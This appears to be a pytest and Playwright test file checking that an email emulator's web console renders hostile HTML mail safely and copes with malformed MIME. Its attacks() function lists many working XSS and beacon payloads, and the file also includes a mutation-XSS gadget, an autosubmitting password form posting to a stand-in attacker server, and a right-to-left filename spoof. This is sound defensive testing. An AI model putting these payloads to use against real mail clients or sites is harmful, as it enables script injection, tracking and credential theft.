"""Mail that means harm, opened in a real browser: no script runs, no request leaves, nothing breaks."""

import base64
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from urllib.parse import quote
from urllib.request import Request, urlopen

import pytest
from playwright.sync_api import Page

from fixtures.browsing import barriers, overflow
from gatepost.testing.local import running

ACCOUNT = "000000000000"
SENDER = "post@example.com"
VICTIM = "ada@example.org"
VIEWS = ("html", "text", "source", "headers", "attachments", "decision", "life")


@dataclass
class Lair:
    """A server of somebody else's that hostile mail would like to reach."""

    url: str = ""
    reached: list[str] = field(default_factory=list[str])


@pytest.fixture(scope="module")
def lair() -> Iterator[Lair]:
    found = Lair()

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.reached.append(self.path)
            self.send_response(200)
            self.send_header("content-type", "text/javascript")
            self.end_headers()
            self.wfile.write(b"top.document.title = 'taken';")

        do_POST = do_GET  # noqa: N815 - http.server's name

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    Thread(target=server.serve_forever, daemon=True).start()
    found.url = f"http://127.0.0.1:{server.server_port}"
    yield found
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def post() -> Iterator[Any]:
    """A server whose SES mails to anybody."""
    with running(production_access=True) as server:
        server.client("sesv2", account=ACCOUNT).create_email_identity(EmailIdentity=SENDER)
        urlopen(Request(f"{server.url}/_gatepost/identities/{SENDER}/verify?account={ACCOUNT}", method="POST")).close()
        yield server


def send(post: Any, raw: bytes) -> str:
    """Mail sent as it is; the address of its page in the console."""
    sent = post.client("sesv2", account=ACCOUNT).send_email(
        FromEmailAddress=SENDER, Destination={"ToAddresses": [VICTIM]}, Content={"Raw": {"Data": raw}}
    )
    return f"{post.url}/console/{ACCOUNT}/us-east-1/inbox/{quote(sent['MessageId'])}"


def mail(html: str, subject: str = "Hello", kind: str = "text/html; charset=utf-8") -> bytes:
    head = f"From: {SENDER}\r\nTo: {VICTIM}\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: {kind}\r\n"
    return f"{head}Content-Transfer-Encoding: base64\r\n\r\n".encode() + base64.encodebytes(html.encode("utf-8", "surrogatepass"))


def attacks(lair: str) -> str:
    """Every way to run a script or to call home that a mail has been known to try."""
    return f"""<!doctype html><html><head><base href="{lair}/base/"><meta http-equiv="refresh" content="0; url={lair}/refresh">
<link rel="stylesheet" href="{lair}/sheet.css"><link rel="prefetch" href="{lair}/prefetch">
<link rel="preload" as="image" href="{lair}/preload">
<link rel="dns-prefetch" href="{lair}"><link rel="icon" href="{lair}/icon"><style>@import "{lair}/import.css";
body {{ background: url({lair}/css) }} @font-face {{ font-family: x; src: url({lair}/font) }} p {{ font-family: x }}</style>
<script>top.document.title = 'taken'; fetch('{lair}/fetch')</script><script src="{lair}/script.js"></script></head>
<body onload="top.document.title = 'taken'" background="{lair}/background"><p style="background-image: url('{lair}/style')">Hello</p>
<img src="{lair}/image"><img src="relative"><img src=x onerror="top.document.title = 'taken'"><img srcset="{lair}/srcset 1x">
<picture><source srcset="{lair}/source"><img alt=""></picture><svg onload="top.document.title = 'taken'"><image href="{lair}/svg"/>
<script>alert(1)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="top.document.title = 'taken'"></style></mglyph></table></mtext></math>
<iframe src="{lair}/frame"></iframe><iframe srcdoc="<script>top.document.title = 'taken'</script>"></iframe>
<object data="{lair}/object"></object>
<embed src="{lair}/embed"><video src="{lair}/video" poster="{lair}/poster" autoplay></video><audio src="{lair}/audio" autoplay></audio>
<form id="f" action="{lair}/form" method="post">
<input name="password" autofocus onfocus="this.form.submit()"><button>Sign in</button></form>
<a href="javascript:top.document.title='taken'">Click</a> <a href="data:text/html,<script>top.document.title='taken'</script>">or here</a>
<table background="{lair}/table"><tr><td background="{lair}/cell">cell</td></tr></table>
<details open ontoggle="top.document.title = 'taken'">x</details>
<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
</div></main></body></html><script>alert(2)</script>"""


@dataclass
class Watched:
    """A tab of which it is written down what it did."""

    page: Page
    asked: list[str] = field(default_factory=list[str])
    happened: list[str] = field(default_factory=list[str])

    def __post_init__(self) -> None:
        self.page.on("response", lambda response: self.asked.append(response.url))  # what a policy stopped has none
        self.page.on("dialog", lambda dialog: self.happened.append(f"dialog {dialog.message}"))
        self.page.on("popup", lambda popup: self.happened.append(f"popup {popup.url}"))
        self.page.on("download", lambda download: self.happened.append(f"download {download.url}"))

    def open(self, address: str) -> None:
        answer = self.page.goto(address)
        assert answer is not None
        assert answer.status == 200, (address, answer.status)
        self.page.wait_for_load_state()

    def strangers(self, own: str) -> list[str]:
        """What others than this server answered."""
        return [url for url in self.asked if not url.startswith((f"{own}/", "data:", "about:"))]


@pytest.fixture
def watched(tab: Callable[..., Page]) -> Watched:
    return Watched(tab())


def frame_addresses(page: Page) -> list[str]:
    """Where the frames of a page are filled from."""
    return [frame.evaluate("element => element.src") for frame in page.locator("iframe").all()]


def test_no_script_runs_and_no_request_leaves(post: Any, lair: Lair, watched: Watched) -> None:
    address = send(post, mail(attacks(lair.url), subject="<script>alert(1)</script><img src=x onerror=alert(2)>"))
    page = watched.page
    watched.open(address)
    frames = frame_addresses(page)
    assert frames, "the mail is in a frame"
    sandbox = (page.locator("iframe").first.get_attribute("sandbox") or "").split()
    assert not {"allow-scripts", "allow-same-origin", "allow-forms", "allow-top-navigation"} & set(sandbox)
    assert "Hello" in page.frame_locator("iframe").first.locator("body").inner_text()
    title = page.title()
    for shown in [address, *frames]:
        watched.open(shown)
        page.wait_for_timeout(250)
        assert page.url == shown, "nothing leads elsewhere"
        assert "taken" not in page.title()
    for name in VIEWS:
        watched.open(f"{address}?view={name}")
    assert "taken" not in title
    assert (watched.strangers(post.url), lair.reached, watched.happened) == ([], [], [])


def test_a_frame_is_refused_everything_even_if_it_is_opened_alone(post: Any, lair: Lair, watched: Watched) -> None:
    address = send(post, mail(attacks(lair.url)))
    watched.open(address)
    for frame in frame_addresses(watched.page):
        with urlopen(frame) as answer:
            policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "sandbox" in policy
        assert not any(word in policy for word in ("allow-scripts", "allow-same-origin", "allow-forms", "script-src"))


STRANGE = {
    "a subject that reads backwards": mail(
        "<p>Hi</p>", subject="=?utf-8?b?" + base64.b64encode("Invoice \u202efdp.exe\u2066".encode()).decode() + "?="
    ),
    "a charset that nobody knows": mail("<p>Hi</p>", kind="text/html; charset=x-martian"),
    "base64 that is none": b"From: post@example.com\r\nTo: ada@example.org\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\n<<<%%%\x00\xff\xfe!!!",
    "bytes that are no text": b"From: post@example.com\r\nTo: ada@example.org\r\nSubject: \xff\xfe\x00\xc3\r\n\r\n\x00\xff\xfe\x80",
    "half a letter": mail("<p>\ud800 and \udfff</p>"),
    "a multipart without its parts": b"From: post@example.com\r\nTo: ada@example.org\r\nSubject: parts\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: multipart/mixed; boundary="="\r\n\r\n--=\r\nContent-Type: multipart/mixed; boundary="="\r\n\r\n',
    "a word without an end": mail(f"<p>{'W' * 20_000}</p>", subject="W" * 900),
    "two megabytes": mail("<b>x</b>" * 250_000),
    "a thousand thousand tables in each other": mail("<table><tr><td>" * 60_000),
}


@pytest.mark.parametrize("raw", STRANGE.values(), ids=STRANGE.keys())
def test_strange_mail_is_shown_as_far_as_it_can_be(raw: bytes, post: Any, watched: Watched) -> None:
    address = send(post, raw)
    watched.open(address)
    assert barriers(watched.page) == []
    assert overflow(watched.page) <= 0
    for name in ("text", "source", "headers"):
        watched.open(f"{address}?view={name}")
    watched.open(f"{post.url}/console/{ACCOUNT}/us-east-1/inbox")
    assert not any(turned in watched.page.locator("main").inner_text() for turned in "\u202e\u2066\u202a\u202b\u202d")
    assert watched.strangers(post.url) == []
